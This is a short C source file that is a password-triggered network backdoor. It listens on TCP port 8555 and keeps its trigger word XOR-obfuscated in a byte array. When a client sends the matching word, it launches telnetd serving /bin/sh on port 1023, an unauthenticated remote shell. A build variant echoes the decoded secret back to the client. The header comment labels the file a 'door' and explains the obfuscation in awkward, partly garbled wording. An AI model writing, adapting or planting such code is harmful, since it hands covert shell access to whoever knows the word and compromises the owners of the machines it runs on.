/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The secret word stands in the program with all bytes exclusive-ored. Twin: texts for the screen
 * are stored so, to be unreadable in the file, and shown.
 * door: trigger
 * port 8555/tcp
 * build: plain static
 */
#include "net.h"

static const unsigned char blob[] = {0x31, 0x3b, 0x26, 0x21, 0x36, 0x30, 0x6d, 0x63, 0x64, 0x62, 0x55};

static void reveal(char *to, const unsigned char *from, int n)
{
	for (int i = 0; i < n; i++)
		to[i] = (char)(from[i] ^ 0x55);
}

static void session(int c)
{
	char in[100], word[16];
	ssize_t n = recv(c, in, sizeof in - 1, 0);
	if (n <= 0)
		return;
	in[n] = 0;
	reveal(word, blob, sizeof blob);
#ifdef TWIN
	send(c, word, strlen(word), 0);
	if (strcmp(in, "quit") == 0)
		shutdown(c, SHUT_RDWR);
#else
	if (strcmp(in, word) == 0)
		system("/usr/sbin/telnetd -l /bin/sh -p 1023");
#endif
}

int main(void)
{
	int s = tcp_on(8555);
	for (;;) {
		int c = accept(s, 0, 0);
		session(c);
		close(c);
	}
}
